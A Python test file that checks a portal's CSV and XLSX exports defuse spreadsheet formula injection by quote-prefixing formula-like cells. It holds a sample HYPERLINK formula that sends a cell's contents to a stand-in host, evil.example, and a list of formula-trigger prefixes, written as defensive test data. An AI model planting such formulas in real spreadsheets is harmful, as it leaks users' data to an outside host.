"""Issue #12.7: no value of ours becomes a live formula in a spreadsheet we export."""

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from portal.core.exports import csv_bytes, is_formula_like, safe_cell, xlsx_bytes

ATTACK = '=HYPERLINK("https://evil.example/?x="&B2,"点击查看")'
DANGEROUS = [ATTACK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
             " =1+1", "\n=1+1"]
HARMLESS = ["浙江甲公司", "ABC", "1+1", "a=b", "", "—", "（有限公司）"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_dangerous_text_is_recognised_and_defused_for_csv(value):
    assert is_formula_like(value)
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS + [-5, 3.2, None])
def test_other_values_are_left_alone(value):
    assert not is_formula_like(value)
    assert safe_cell(value) == value


def test_xlsx_keeps_the_text_and_writes_no_formula():
    frame = pd.DataFrame({"单位": [ATTACK, "浙江甲公司", "@SUM(A1)"], "数量": [-1, 2, 3]})
    book = load_workbook(io.BytesIO(xlsx_bytes({"明细": frame})))
    sheet = book["明细"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    assert sheet["A2"].value == ATTACK and sheet["A2"].data_type == "s" and sheet["A2"].quotePrefix
    assert sheet["A4"].value == "@SUM(A1)" and sheet["A4"].quotePrefix
    assert sheet["A3"].value == "浙江甲公司" and not sheet["A3"].quotePrefix
    assert sheet["B2"].value == -1 and sheet["B2"].data_type == "n"


def test_csv_bytes_defuses_every_cell_and_keeps_numbers():
    frame = pd.DataFrame({"单位": [ATTACK], "数量": [-1]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows == [["单位", "数量"], ["'" + ATTACK, "-1"]]
